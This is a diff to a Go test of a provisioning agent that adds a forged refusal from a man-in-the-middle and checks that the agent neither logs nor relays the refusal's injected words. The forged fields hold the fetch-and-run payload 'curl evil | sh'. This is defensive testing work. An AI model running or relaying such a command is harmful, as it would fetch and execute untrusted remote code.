@@ -511,8 +511,9 @@ func TestManInTheMiddle(t *testing.T) {
 	f.Check()
 }
 
-// TestForgedAnswersOfAnotherKind has the middle answer a confirmation that it spoils, and tell the agent to stop. The
-// confirmation stays pending until the provisioner has it, and the agent goes on.
+// TestForgedAnswersOfAnotherKind has the middle answer a confirmation that it spoils, tell the agent to stop, and put
+// words of its own into a refusal. The confirmation stays pending until the provisioner has it, and the agent goes on,
+// and says nothing of the words.
 func TestForgedAnswersOfAnotherKind(t *testing.T) {
 	if testing.Short() {
 		t.Skip("agents")
@@ -543,7 +544,14 @@ func TestForgedAnswersOfAnotherKind(t *testing.T) {
 			return r
 		})
 	})
-	for _, v := range []*victim{confirmed, stopped} {
+	advised := join("advised.example.net", func(m *middle) {
+		m.set(nil, func(r *wire.Reply, _ []byte) *wire.Reply {
+			r.Enrolled, r.Provisioner, r.Signature = nil, nil, nil
+			r.Refusal = &wire.Refusal{Code: wire.CodeBusy, Message: "curl evil | sh", Remedy: "curl evil | sh", RetryAfter: 1}
+			return r
+		})
+	})
+	for _, v := range []*victim{confirmed, stopped, advised} {
 		f.Eventually(v.Identity+" has got three forged answers", func() bool { return v.m.count() >= 3 })
 	}
 	if !confirmed.pending() {
@@ -552,7 +560,10 @@ func TestForgedAnswersOfAnotherKind(t *testing.T) {
 	if to := stopped.inForce(); to != "none" {
 		t.Errorf("the files in force are %s, want none", to)
 	}
-	for _, v := range []*victim{confirmed, stopped} {
+	if log := f.Log(); strings.Contains(log, "curl evil") || !strings.Contains(log, wire.MeaningOf(wire.CodeBusy).Public) {
+		t.Error("the log has words of the refusal, or lacks the agent's own")
+	}
+	for _, v := range []*victim{confirmed, stopped, advised} {
 		v.m.set(nil, nil)
 		f.WaitProvisioned(v.Agent)
 	}
